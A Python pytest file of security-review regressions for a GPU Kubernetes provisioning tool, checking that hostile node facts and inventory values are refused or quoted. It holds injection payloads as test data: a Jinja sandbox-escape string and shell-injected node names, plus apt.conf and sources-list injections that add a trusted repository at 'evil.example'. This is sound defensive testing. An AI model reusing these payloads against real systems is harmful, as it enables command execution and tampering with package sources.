"""Regressions of the security review of 9acc695: a hostile node, a hostile inventory value or a
network attacker gets no further than its own box. One test (or more) per finding; findings
of the transport, the reporter and the workloads have their own files (test_transport_security,
test_untrusted_output, test_workload_security)."""

from __future__ import annotations

import hashlib
import os
import shlex
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

import gpuk8s.session as session_mod
from gpuk8s import handoffs
from gpuk8s.day2.steps import CLEANUP
from gpuk8s.errors import Gpuk8sError, PlanError
from gpuk8s.facts import HostFacts
from gpuk8s.facts.kube import ClusterState, NodeStatus
from gpuk8s.facts.system import FileState, OsRelease, SystemInfo
from gpuk8s.ops.apt import keyring_fingerprints, repo
from gpuk8s.ops.kube import labels
from gpuk8s.roles import HostContext, load_role
from gpuk8s.sinks import UnsafeValue, apt_conf_string, node_arg, unix_user, url_has_secret
from gpuk8s.templating import render_value
from gpuk8s.variables import check_combination, check_value, load_variable_specs
from roles.control_plane import role as control_plane
from roles.preflight import role as preflight
from tests.unit.fakes import op_bodies, runner_for, sectioned
from tests.unit.scenarios import default_vars, fresh_facts

SPECS = load_variable_specs()
PAYLOAD = "{{ lipsum.__globals__['os'].popen('touch MARKER').read() }}"
CLUSTER: dict[str, Any] = {
    "endpoint": "10.0.0.10:6443", "advertise_address": "10.0.0.10", "node_name": "cp-01",
    "nodes": {"node": {"name": "node", "address": "10.0.0.11", "gpus": 2,
                       "model": "NVIDIA H100 80GB HBM3"}}}


def _plan(role: str, vars: dict[str, Any], facts: HostFacts,
          groups: tuple[str, ...] = ("control_plane",)) -> list[Any]:
    return load_role(role).plan(HostContext("node", role, vars, facts, CLUSTER, groups))


def _with(facts: HostFacts, kind: type, value: Any) -> HostFacts:
    return HostFacts(facts.host, {f: (value(v) if callable(value) else value)
                                  if isinstance(f, kind) else v for f, v in facts.items()})


# -- 1. a node's os-release never becomes a template ------------------------------------------
def test_os_release_identifiers_are_validated_at_parse_time() -> None:
    text = f'ID="{PAYLOAD}"\nVERSION_ID="12"\nVERSION_CODENAME=bookworm\nPRETTY_NAME="x"\n'
    parsed = OsRelease().parse(text, 0)
    assert parsed["ID"] == "?" and parsed["ID_AS_FOUND"] == PAYLOAD
    assert parsed["VERSION_ID"] == "12" and parsed["VERSION_CODENAME"] == "bookworm"
    assert OsRelease().parse('VERSION_ID="24.04 $(id)"\n', 0)["VERSION_ID"] == "?"
    assert OsRelease().parse("ID='unbalanced\n", 0)["ID"] == "?"  # no crash either


def test_a_fact_placeholder_is_inserted_as_text_and_never_run(tmp_path: Path,
                                                              monkeypatch: pytest.MonkeyPatch
                                                              ) -> None:
    monkeypatch.chdir(tmp_path)
    url = render_value("https://download.docker.com/linux/{{ os_id }}", {},
                       data={"os_id": PAYLOAD})
    assert url == f"https://download.docker.com/linux/{PAYLOAD}"
    assert not (tmp_path / "MARKER").exists()


def test_a_hostile_os_id_is_refused_by_preflight_and_planned_without_rendering(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    vars = default_vars()
    facts = _with(fresh_facts("debian12", 0, "node", vars), OsRelease,
                  OsRelease().parse(f'ID="{PAYLOAD}"\nVERSION_ID="12"\n', 0))
    errors, _ = preflight.check(HostContext("node", "preflight", vars, facts,
                                                         CLUSTER))
    assert [e[0] for e in errors] == ["os"] and "unsupported OS" in errors[0][1]
    assert PAYLOAD in errors[0][1]  # named as found, as text
    ops = _plan("container_runtime", vars, facts)
    assert ops[0].reason == "+ apt source docker -> https://download.docker.com/linux/?"
    assert not (tmp_path / "MARKER").exists()


def test_inventory_placeholders_are_sandboxed_and_rendered_once(tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch
                                                                ) -> None:
    monkeypatch.chdir(tmp_path)
    with pytest.raises(PlanError, match="'lipsum' is undefined"):  # no jinja globals
        render_value(PAYLOAD, {}, name="kubernetes_repo_url")
    with pytest.raises(PlanError, match="reaches outside the template sandbox"):
        render_value("{{ a.__class__.__mro__[1].__subclasses__() }}", {"a": "x"},
                     name="kubernetes_repo_url")
    assert not (tmp_path / "MARKER").exists()
    # a value whose output is a placeholder is not rendered a second time
    assert render_value("https://m/{{ a }}/", {"a": "{{ '{{' }} b }}", "b": "x"}) == \
        "https://m/{{ b }}/"
    # a placeholder naming a variable that holds placeholders is rendered, once each
    assert render_value("{{ a }}", {"a": "{{ b }}-1", "b": "B"}) == "B-1"
    with pytest.raises(PlanError, match="loop: a -> b -> a"):
        render_value("{{ a }}", {"a": "{{ b }}", "b": "{{ a }}"})


def test_a_rendered_url_is_checked_again() -> None:
    vars = default_vars(kubernetes_repo_url="https://m.lan/{{ tail }}")
    vars["tail"] = "x\tdeb [trusted=yes] http://evil/ ./"
    facts = fresh_facts("debian12", 0, "node", vars)
    with pytest.raises(PlanError, match="kubernetes_repo_url holds characters a URL may not"):
        _plan("kubernetes", vars, facts)


# -- 2. a node name is validated, then quoted --------------------------------------------------
@pytest.mark.parametrize("name", ["gpu-01$(touch /tmp/x)", "--kubeconfig=/tmp/k", "GPU_01",
                                  "a" * 254, "", "gpu-01;id", "-x"])
def test_node_names_outside_dns1123_are_refused(name: str) -> None:
    with pytest.raises(UnsafeValue, match="node name"):
        node_arg(name)


def test_node_name_sinks_quote(tmp_path: Path) -> None:
    assert node_arg("gpu-01.lab", "node/") == "node/gpu-01.lab"
    cluster = ClusterState(reachable=True, nodes={"gpu-01": NodeStatus(
        "gpu-01", True, False, "v1.36.2", "containerd://2.1.4", None)})
    op = labels(cluster, "x", "gpu-01", {"nvidia.com/gpu.product": "NVIDIA-H100"})
    assert op.commands[0].endswith(" label node gpu-01 nvidia.com/gpu.product=NVIDIA-H100 "
                                   "--overwrite")
    with pytest.raises(UnsafeValue):
        labels(ClusterState(), "x", "gpu-01$(id)", {"a": "b"})


def test_preflight_refuses_a_hostname_that_is_no_node_name_and_it_cannot_be_ignored() -> None:
    vars = default_vars(preflight_ignore=["hostname", "os"])
    facts = fresh_facts("debian12", 0, "node", vars)
    from gpuk8s.facts.system import System
    facts = HostFacts("node", {f: (_rename(v, "gpu-01$(touch /tmp/x)")
                                   if isinstance(f, System) else v) for f, v in facts.items()})
    errors, _ = preflight.check(HostContext("node", "preflight", vars, facts,
                                                         CLUSTER))
    assert [e[0] for e in errors] == ["hostname"]
    assert "gpu-01$(touch /tmp/x)" in errors[0][1] and "DNS-1123" in errors[0][1]


def _rename(info: SystemInfo, hostname: str) -> SystemInfo:
    from dataclasses import replace
    return replace(info, hostname=hostname)


# -- 6. a placeholder never switches a check off -----------------------------------------------
@pytest.mark.parametrize("name,value", [
    ("kubernetes_package_version", "1.36.2-1.1$(id -un){{''}}"),
    ("pod_cidr", "10.244.0.0/16{{ '' }}"),
    ("join_token_ttl", "15m0s; echo INJECTED #{{ '' }}"),
    ("kubernetes_version", "1.36{{ '' }}"),
])
def test_placeholders_are_refused_outside_url_variables(name: str, value: str) -> None:
    _, problem = check_value(SPECS[name], value)
    assert problem is not None and "only in the *_url variables" in problem.message


def test_join_token_ttl_is_quoted() -> None:
    seen = []

    class T:
        def run(self, cmd: str, timeout: float = 0) -> Any:
            seen.append(cmd)
            return sectioned(cmd, "kubeadm: error", rc=1)

    transports = {"cp": T()}
    session = type("S", (), {"first_cp": "cp", "transports": transports,
                             "runner": staticmethod(runner_for(transports)),
                             "redact": staticmethod(lambda t: t),
                             "host": lambda self, n: type("H", (), {"vars": {
                                 "join_token_ttl": "15m0s"}})()})()
    with pytest.raises(Gpuk8sError, match="kubeadm token create failed"):
        handoffs.mint_join(session)  # type: ignore[arg-type]
    assert [op_bodies(s) for s in seen] == [[
        "kubeadm token create --ttl 15m0s --print-join-command"]]


# -- 7. apt keys are pinned by fingerprint ------------------------------------------------------
def _keyring(seed: bytes) -> tuple[bytes, str]:
    """A minimal binary keyring: one v4 public-key packet (old format, 2-byte length)."""
    body = b"\x04" + b"\x00\x00\x00\x00" + b"\x16" + seed.ljust(40, b"k")
    packet = bytes([0x99]) + len(body).to_bytes(2, "big") + body
    return packet, hashlib.sha1(packet, usedforsecurity=False).hexdigest().upper()


def test_keyring_fingerprints_of_v4_keys() -> None:
    one, fp1 = _keyring(b"one")
    two, fp2 = _keyring(b"two")
    assert keyring_fingerprints(one) == [fp1]
    assert keyring_fingerprints(one + two) == [fp1, fp2]
    assert keyring_fingerprints(b"garbage") == []


def _repo(keyring: FileState, fingerprint: str, key_url: str = "https://k/key") -> Any:
    data = (f"# managed by gpuk8s; key from {key_url}\n"
            f"deb [signed-by={keyring.path}] https://r/ /\n").encode()
    listing = FileState("/etc/apt/sources.list.d/x.list", True, "644", "root",
                        hashlib.sha256(data).hexdigest())
    return repo(listing, keyring, "x | repo", name="x", url="https://r/", suite="/",
                components="", key_url=key_url, fingerprint=fingerprint,
                fingerprint_var="x_repo_key_fingerprint")


def test_a_keyring_holding_the_pinned_key_is_a_noop_and_a_swapped_one_is_a_change() -> None:
    good, fp = _keyring(b"good")
    evil, evil_fp = _keyring(b"evil")
    path = "/etc/apt/keyrings/x.gpg"
    same = _repo(FileState(path, True, "644", "root", "", good), fp)
    assert not same.changes and fp[-16:] in same.reason
    swapped = _repo(FileState(path, True, "644", "root", "", evil), fp)
    assert swapped.changes and f"holds {evil_fp[-16:]}, not the pinned {fp[-16:]}" in \
        swapped.reason
    extra = _repo(FileState(path, True, "644", "root", "", good + evil), fp)
    assert extra.changes  # a second key beside the pinned one is not accepted either


def test_the_fetched_key_is_checked_before_it_is_installed(tmp_path: Path) -> None:
    """Run the generated fetch script with stub curl and gpg: a key with another fingerprint
    never reaches the keyring path."""
    _, fp = _keyring(b"good")
    stub = tmp_path / "bin"
    stub.mkdir()
    (stub / "curl").write_text("#!/bin/sh\nprintf 'ARMOURED'\n")
    (stub / "gpg").write_text(
        "#!/bin/sh\ncase \"$*\" in\n"
        "*--dearmor*) cat >/dev/null; printf key > \"$4\";;\n"
        "*--show-keys*) printf 'pub:-:255:22:X:1::::::scESC:\\nfpr:::::::::%s:\\n' "
        "\"$SERVED_FP\";;\nesac\n")
    for f in stub.iterdir():
        f.chmod(0o755)
    keyring = tmp_path / "keyrings" / "x.gpg"
    keyring.parent.mkdir()
    op = _repo(FileState(str(keyring), False), fp)
    script = op.commands[0].replace("mkdir -p -m 0755 /etc/apt/keyrings && ", "")
    env = {**os.environ, "PATH": f"{stub}:{os.environ['PATH']}"}
    bad = subprocess.run(["sh", "-c", script], env={**env, "SERVED_FP": "AB" * 20},
                         capture_output=True, text=True)
    assert bad.returncode == 1 and not keyring.exists()
    assert f"expected {fp} (x_repo_key_fingerprint); refusing it" in bad.stderr
    ok = subprocess.run(["sh", "-c", script], env={**env, "SERVED_FP": fp},
                        capture_output=True, text=True)
    assert ok.returncode == 0, ok.stderr
    assert keyring.read_text() == "key"
    assert "--proto =https --proto-redir =https" in script


def test_fingerprint_variables_are_checked() -> None:
    _, problem = check_value(SPECS["docker_repo_key_fingerprint"], "0EBFCD88")
    assert problem is not None and "full OpenPGP key fingerprint" in problem.message
    _, problem = check_value(SPECS["docker_repo_key_fingerprint"],
                                 "9DC8 5822 9FC7 DD38 854A  E2D8 8D81 803C 0EBF CD88")
    assert problem is None
    plain_http = default_vars(docker_repo_key_url="http://mirror.lan/gpg",
                              docker_repo_key_fingerprint="")
    problems = check_combination(plain_http)
    assert [p.key for p in problems] == ["docker_repo_key_fingerprint"]
    assert not check_combination(default_vars(docker_repo_key_url="http://mirror.lan/gpg"))


# -- 8. values that would inject into apt.conf, sources or shell -------------------------------
@pytest.mark.parametrize("value", [
    'http://10.0.0.1:3142/";APT::Update::Pre-Invoke{"id>/tmp/pwn";};//',
    "http://mirror.lan/k8s/\t/\ndeb\t[trusted=yes]\thttp://evil.example/\t./\n#",
    "http://mirror.lan/a b", "http://mirror.lan/x'y", "http://mirror.lan/x\\y",
])
def test_urls_that_would_inject_are_refused(value: str) -> None:
    for name in ("apt_proxy", "kubernetes_repo_url"):
        _, problem = check_value(SPECS[name], value)
        assert problem is not None and "characters a URL may not" in problem.message, name


def test_apt_conf_strings_cannot_be_ended() -> None:
    assert apt_conf_string("http://p:3142", "apt_proxy") == '"http://p:3142"'
    for bad in ('a";b', "a\nb", "a\x00"):
        with pytest.raises(UnsafeValue, match=r"cannot be written to apt\.conf"):
            apt_conf_string(bad, "apt_proxy")


def test_sysctl_values_are_checked_quoted_and_compared_by_words() -> None:
    _, problem = check_value(SPECS["base_sysctls"], {"vm.swappiness": "10; id -un > /tmp/x"})
    assert problem is not None and "holds characters no sysctl value needs" in problem.message
    vars = default_vars(base_sysctls={"net.ipv4.tcp_rmem": "4096 87380 6291456"})
    facts = fresh_facts("debian12", 0, "node", vars)
    ops = {op.id: op for op in _plan("base", vars, facts)}
    assert "sysctl -q -w 'net.ipv4.tcp_rmem=4096 87380 6291456'" in \
        ops["base | sysctls applied"].commands
    from gpuk8s.facts.system import Sysctls
    converged = _with(facts, Sysctls, lambda v: {**v, "net.ipv4.tcp_rmem": "4096\t87380\t6291456",
                                                 "net.ipv4.ip_forward": "1"})
    ops = {op.id: op for op in _plan("base", vars, converged)}
    assert not ops["base | sysctls applied"].changes


# -- 12. admin.conf on the admin machine ------------------------------------------------------
ADMIN_CONF = {
    "apiVersion": "v1", "kind": "Config",
    "clusters": [{"name": "kubernetes", "cluster": {
        "server": "https://10.0.0.10:6443", "certificate-authority-data": "Q0E="}}],
    "contexts": [{"name": "a", "context": {"cluster": "kubernetes", "user": "admin"}}],
    "current-context": "a",
    "users": [{"name": "admin", "user": {"client-certificate-data": "Qw==",
                                         "client-key-data": "Sw=="}}],
}


def test_admin_conf_with_an_exec_plugin_or_a_plain_server_is_refused() -> None:
    handoffs.check_admin_conf(yaml.safe_dump(ADMIN_CONF), "cp-01")
    hostile = yaml.safe_load(yaml.safe_dump(ADMIN_CONF))
    hostile["users"][0]["user"]["exec"] = {"command": "sh", "args": ["-c", "id"]}
    with pytest.raises(Gpuk8sError, match="user 'admin' has exec"):
        handoffs.check_admin_conf(yaml.safe_dump(hostile), "cp-01")
    plain = yaml.safe_load(yaml.safe_dump(ADMIN_CONF))
    plain["clusters"][0]["cluster"]["server"] = "http://10.0.0.10:8080"
    with pytest.raises(Gpuk8sError, match="not an https:// URL"):
        handoffs.check_admin_conf(yaml.safe_dump(plain), "cp-01")


@pytest.mark.parametrize("field, value", [("users", 5), ("users", "admin"),
                                          ("clusters", 7), ("clusters", {"a": 1})])
def test_admin_conf_with_a_non_list_users_or_clusters_is_a_clear_error(field: str,
                                                                       value: Any) -> None:
    conf = {"apiVersion": "v1", "kind": "Config",
            "clusters": [{"name": "k", "cluster": {"server": "https://10.0.0.10:6443"}}],
            "users": [{"name": "admin", "user": {"client-certificate-data": "Qw=="}}],
            field: value}
    with pytest.raises(Gpuk8sError, match=f"cp-01: .* is refused: its {field} is a "
                       f"{type(value).__name__}, not a list"):
        handoffs.check_admin_conf(yaml.safe_dump(conf), "cp-01")


def test_admin_conf_is_written_privately_and_never_through_a_symlink(tmp_path: Path) -> None:
    folder = tmp_path / "artifacts"
    folder.mkdir(mode=0o700)
    victim = tmp_path / "victim"
    victim.write_text("theirs")
    dest = folder / "admin.conf"
    dest.symlink_to(victim)
    handoffs.write_private(dest, "client-key-data: S3CRET\n")
    assert victim.read_text() == "theirs"
    assert not dest.is_symlink() and dest.read_text() == "client-key-data: S3CRET\n"
    assert oct(dest.stat().st_mode & 0o777) == "0o600"
    open_folder = tmp_path / "shared"
    open_folder.mkdir()
    open_folder.chmod(0o777)
    with pytest.raises(Gpuk8sError, match="writable by others"):
        handoffs.write_private(open_folder / "admin.conf", "x")
    assert not (open_folder / "admin.conf").exists()


# -- 13. cleanup removes only gpuk8s's kubeconfigs, never following a user's symlink --------
def test_cleanup_removes_only_the_admin_kubeconfigs_gpuk8s_installed(tmp_path: Path) -> None:
    """The cleanup's own lines, in a real sh, over a fake root: bob's and root's copies of
    admin.conf go; carol's kubeconfig for another cluster stays; alice's symlinked ~/.kube
    never makes root touch the file it points to."""
    first, *finds, last = CLEANUP.splitlines()[:CLEANUP.splitlines().index("fi") + 1]
    assert first.startswith("if [ -f /etc/kubernetes/admin.conf ]") and last == "fi"
    assert len(finds) == 2 and all("-type f -exec cmp -s" in x for x in finds)
    root = tmp_path
    admin = "apiVersion: v1\nclusters: [this-cluster]\nusers: [kubernetes-admin]\n"
    (root / "etc/kubernetes").mkdir(parents=True)
    (root / "etc/kubernetes/admin.conf").write_text(admin)
    for user, text in (("bob", admin), ("carol", "clusters: [carols-own-cluster]\n")):
        (root / "home" / user / ".kube").mkdir(parents=True)
        (root / "home" / user / ".kube" / "config").write_text(text)
    (root / "root/.kube").mkdir(parents=True)
    (root / "root/.kube/config").write_text(admin)
    elsewhere = root / "etc-selinux"
    elsewhere.mkdir()
    (elsewhere / "config").write_text(admin)  # same bytes: only the symlink keeps it safe
    (root / "home" / "alice").mkdir()
    (root / "home" / "alice" / ".kube").symlink_to(elsewhere)
    (root / "home" / "dave" / ".kube").mkdir(parents=True)
    (root / "home" / "dave" / ".kube" / "config").symlink_to(elsewhere / "config")
    script = "\n".join([first, *finds, last])
    assert shlex.quote(str(root)) == str(root)  # pytest's folder needs no quoting in sh
    for path in ("/etc/kubernetes/admin.conf", "/root", "/home"):
        script = script.replace(path, f"{root}{path}")
    subprocess.run(["sh", "-c", script], check=True)
    assert not (root / "home/bob/.kube/config").exists()
    assert not (root / "root/.kube/config").exists()
    assert (root / "home/carol/.kube/config").read_text() == "clusters: [carols-own-cluster]\n"
    assert (elsewhere / "config").read_text() == admin
    assert (root / "home/dave/.kube/config").is_symlink()


def test_cleanup_compares_kubeconfigs_before_the_reset_removes_admin_conf() -> None:
    lines = CLEANUP.splitlines()
    compare = next(i for i, x in enumerate(lines) if "cmp -s" in x)
    reset = next(i for i, x in enumerate(lines) if "kubeadm reset" in x)
    assert compare < reset
    assert not any("rm" in x and ".kube/config" in x for x in lines)


# -- 15. credentials in URLs stay off argv and out of world-readable files ---------------------
def test_proxy_credentials_travel_in_a_private_file() -> None:
    proxy = "http://user:s3cret@proxy.lan:3128"
    assert url_has_secret(proxy) and not url_has_secret("http://proxy.lan:3128")
    vars = default_vars(apt_proxy=proxy, package_cache=True)
    facts = fresh_facts("debian12", 0, "node", vars)
    base = {op.id: op for op in _plan("base", vars, facts)}
    proxy_op = base["base | apt proxy"]
    assert proxy_op.secret and any("chmod 0600" in c for c in proxy_op.commands)
    cache = _plan("package_cache", vars, facts)
    install = cache[0]
    assert install.secret
    for command in install.commands:
        if "apt-get" in command:
            # the value is written by printf (a shell builtin) into a mktemp file; apt-get
            # only sees the file's name
            apt_line = next(x for x in command.splitlines() if "apt-get" in x)
            assert "s3cret" not in apt_line and '-c "$c"' in apt_line


# -- 16. kubeadm's own 24-hour token -------------------------------------------------------------
def test_kubeadm_init_token_lives_join_token_ttl() -> None:
    vars = default_vars(join_token_ttl="10m0s")
    facts = fresh_facts("debian12", 0, "node", vars)
    config = control_plane.kubeadm_config(
        HostContext("node", "control_plane", vars, facts, CLUSTER))
    init = next(d for d in yaml.safe_load_all(config) if d["kind"] == "InitConfiguration")
    assert init["bootstrapTokens"] == [{
        "ttl": "10m0s", "usages": ["signing", "authentication"],
        "groups": ["system:bootstrappers:kubeadm:default-node-token"]}]


# -- 17. the login user gets the kubeconfig, and is a user name --------------------------------
def test_the_sudo_user_gets_the_admin_kubeconfig() -> None:
    vars = default_vars(ansible_user="ubuntu")
    facts = fresh_facts("debian12", 0, "node", vars)
    ops = {o.id: o for o in _plan("control_plane", vars, facts)}
    op = ops["control_plane | admin kubeconfig for ubuntu"]
    assert op.reason == "+ /home/ubuntu/.kube/config for ubuntu (0600)"
    assert "install -D -m 0600 -o ubuntu" in op.commands[0]
    assert ops["control_plane | admin kubeconfig"].reason == "+ /root/.kube/config for root (0600)"
    for bad in ("ubuntu;id", "Ubuntu", "-o", "a b"):
        with pytest.raises(UnsafeValue, match="user name"):
            unix_user(bad)


def test_role_vars_carry_the_login_user() -> None:
    from gpuk8s.inventory import Host
    host = Host("cp-01", "10.0.0.10", user="ubuntu")
    assert session_mod.role_vars(host)["ansible_user"] == "ubuntu"


def test_url_passwords_are_redacted_wherever_they_appear() -> None:
    from gpuk8s.redact import Redactor
    text = 'Acquire::http::Proxy "http://user:s3cret@proxy.lan:3128"; see https://a.b/c'
    assert Redactor()(text) == ('Acquire::http::Proxy "http://user:<redacted>@proxy.lan:3128"; '
                                "see https://a.b/c")
